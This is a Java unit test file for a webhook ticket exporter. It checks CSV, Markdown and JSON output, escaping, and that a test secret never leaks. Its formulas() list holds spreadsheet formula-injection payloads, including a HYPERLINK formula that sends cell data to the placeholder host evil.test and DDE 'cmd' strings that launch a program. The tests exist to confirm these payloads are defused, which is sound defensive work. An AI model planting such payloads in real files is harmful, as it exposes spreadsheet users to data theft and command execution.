package com.webriskops.webhooks.sender.fallback;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import com.webriskops.webhooks.WebhookException;
import com.webriskops.webhooks.payload.ProviderKey;
import com.webriskops.webhooks.payload.TicketExport.EvidenceLink;
import com.webriskops.webhooks.payload.WebhookJson;
import com.webriskops.webhooks.sender.ExportRequest;
import com.webriskops.webhooks.sender.SenderFixtures;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class PortableExportTest {
    private static final String TRICKY_TITLE = "Fix \"checkout\", *now* | <b>#1</b> [x](y) _a_ `c`";

    private static ExportRequest trickyExport() {
        return SenderFixtures.export("portable-1", ticket -> {
            ticket.title = TRICKY_TITLE;
            ticket.summary = "Line one, with comma\nLine \"two\"\r\n# not a heading";
            ticket.evidenceLinks = List.of(
                    new EvidenceLink("Evidence (main)", "https://app.example.test/e?a=1&b=(2)", null, null, false));
            ticket.labels = List.of("a;b", "webriskops");
        });
    }

    private static PortableExport portable(ExportRequest export) {
        return PortableExport.of(123, ProviderKey.GENERIC_WEBHOOK, export, List.of(SenderFixtures.SECRET));
    }

    @Test
    void formatsAreNamedExactlyAndRenderTheirOwnForm() {
        PortableExport export = portable(trickyExport());

        assertThat(PortableExport.Format.named("csv")).isEqualTo(PortableExport.Format.CSV);
        assertThat(PortableExport.Format.named("md")).isEqualTo(PortableExport.Format.MARKDOWN);
        assertThat(PortableExport.Format.named("markdown")).isEqualTo(PortableExport.Format.MARKDOWN);
        assertThat(PortableExport.Format.named("json")).isEqualTo(PortableExport.Format.JSON);
        assertThat(Stream.of("CSV", "Json", " csv", "xml", "", null).map(PortableExport.Format::named))
                .containsOnlyNulls();
        assertThat(export.render(PortableExport.Format.CSV))
                .isEqualTo(export.csv().getBytes(StandardCharsets.UTF_8));
        assertThat(export.render(PortableExport.Format.MARKDOWN))
                .isEqualTo(export.markdown().getBytes(StandardCharsets.UTF_8));
        assertThat(export.render(PortableExport.Format.JSON)).isEqualTo(export.json());
        assertThat(PortableExport.Format.MARKDOWN.mediaType()).isEqualTo("text/markdown; charset=utf-8");
        assertThat(PortableExport.Format.CSV.extension()).isEqualTo("csv");
    }

    @Test
    void csvIsRfc4180AndReadsBackWithACsvReader() throws Exception {
        String csv = portable(trickyExport()).csv();

        assertThat(csv).contains("\r\n");
        Map<String, String> row = readCsv(csv.getBytes(StandardCharsets.UTF_8));
        assertThat(row.get("title")).isEqualTo(TRICKY_TITLE);
        assertThat(row.get("summary")).isEqualTo("Line one, with comma\nLine \"two\"\r\n# not a heading");
        assertThat(row.get("idempotency_key")).isEqualTo("portable-1");
        assertThat(row.get("target_id")).isEqualTo("123");
        assertThat(row.get("provider_key")).isEqualTo("generic_webhook");
        assertThat(row.get("account_id")).isEqualTo("456");
        assertThat(row.get("project_id")).isEqualTo("789");
        assertThat(row.get("source_record_id")).isEqualTo("42");
        assertThat(row.get("fingerprint")).isEqualTo("generic-webhook-issue-42");
        assertThat(csv).doesNotContain(SenderFixtures.SECRET_TEXT);
    }

    @Test
    void markdownEscapesEverySpecialCharacter() {
        String md = portable(trickyExport()).markdown();

        assertThat(md)
                .startsWith("# Fix \\\"checkout\\\", \\*now\\* \\| \\<b\\>\\#1\\</b\\> \\[x\\]\\(y\\) \\_a\\_ \\`c\\`");
        assertThat(md).doesNotContain("<b>").doesNotContain("\n# not");
        assertThat(md).contains("\\# not a heading");
        assertThat(md).contains("[Evidence \\(main\\)](<https://app.example.test/e?a=1&b=%282%29>)");
        assertThat(md).contains("portable\\-1").contains("generic\\-webhook\\-issue\\-42");
        assertThat(md).doesNotContain(SenderFixtures.SECRET_TEXT);
    }

    @Test
    void jsonEqualsTheExport() throws Exception {
        ExportRequest export = trickyExport();
        byte[] json = portable(export).json();

        PortableExport.Document document = WebhookJson.mapper().readValue(json, PortableExport.Document.class);
        assertThat(document.ticketExport()).isEqualTo(export.ticketExport());
        assertThat(document.renderedBody()).isEqualTo(export.renderedBody());
        assertThat(document.idempotencyKey()).isEqualTo(export.idempotencyKey());
        assertThat(document.target()).isEqualTo(new PortableExport.Target(123, ProviderKey.GENERIC_WEBHOOK));
        assertThat(document.account()).isEqualTo(new PortableExport.Account(456, 789));
        assertThat(new String(json, StandardCharsets.UTF_8)).doesNotContain(SenderFixtures.SECRET_TEXT);
    }

    @Test
    void refusesToRenderAnExportCarryingTheSecret() {
        PortableExport portable =
                portable(SenderFixtures.export(ticket -> ticket.summary = "secret is " + SenderFixtures.SECRET_TEXT));

        assertThat(portable.finding()).isNotNull();
        assertThatThrownBy(portable::csv)
                .isInstanceOf(WebhookException.class)
                .hasMessageNotContaining(SenderFixtures.SECRET_TEXT);
        assertThatThrownBy(portable::markdown).isInstanceOf(WebhookException.class);
        assertThatThrownBy(portable::json).isInstanceOf(WebhookException.class);
    }

    static Stream<Arguments> formulas() {
        return Stream.of(
                Arguments.of("title", "=HYPERLINK(\"https://evil.test/?\"&A2,\"open\")"),
                Arguments.of("labels", "@SUM(1+1)*cmd|' /C calc'!A0"),
                Arguments.of("summary", "+1+1"),
                Arguments.of("assignee", "-2+3"),
                Arguments.of("summary", "\t=1+1"),
                Arguments.of("summary", "\r=1+1"),
                Arguments.of("title", "\uff1d1+1"),
                Arguments.of("title", "\uff0b1+1"),
                Arguments.of("title", "\uff0d1+1"),
                Arguments.of("title", "\uff201+1"),
                Arguments.of("title", "  =1+1"),
                Arguments.of("evidence_links", "=cmd|' /C calc'!A0"));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("formulas")
    void csvDefusesCellsASpreadsheetWouldEvaluate(String column, String text) throws Exception {
        PortableExport portable = portable(SenderFixtures.export("formula-1", ticket -> {
            switch (column) {
                case "title" -> ticket.title = text;
                case "summary" -> ticket.summary = text;
                case "evidence_links" ->
                    ticket.evidenceLinks =
                            List.of(new EvidenceLink(text, "https://app.example.test/e", null, null, false));
                case "labels" -> ticket.labels = List.of(text, "webriskops");
                case "assignee" -> ticket.assignee = text;
                default -> throw new IllegalArgumentException("no such column in formulas(): " + column);
            }
        }));

        byte[] bytes = portable.csv().getBytes(StandardCharsets.UTF_8);
        Map<String, String> row = readCsv(bytes);

        String cell = row.get(column);
        assertThat(cell).startsWith("'");
        assertThat(cell.substring(1)).startsWith(text);
        for (Map.Entry<String, String> entry : row.entrySet()) {
            assertThat(entry.getValue())
                    .as(entry.getKey())
                    .satisfiesAnyOf(
                            v -> assertThat(v).isEmpty(),
                            v -> assertThat(v.charAt(0))
                                    .isNotIn('=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20'));
        }
    }

    @Test
    void csvLeavesOrdinaryCellsAsTheyAre() throws Exception {
        Map<String, String> row = readCsv(portable(trickyExport()).csv().getBytes(StandardCharsets.UTF_8));

        assertThat(row.get("title")).isEqualTo(TRICKY_TITLE);
        assertThat(row.get("labels")).isEqualTo("a;b;webriskops");
        assertThat(row.get("severity")).isEqualTo("high");
    }

    private static Map<String, String> readCsv(byte[] bytes) throws Exception {
        MappingIterator<Map<String, String>> rows = new CsvMapper()
                .readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader())
                .readValues(bytes);
        List<Map<String, String>> all = rows.readAll();
        assertThat(all).hasSize(1);
        return all.get(0);
    }
}
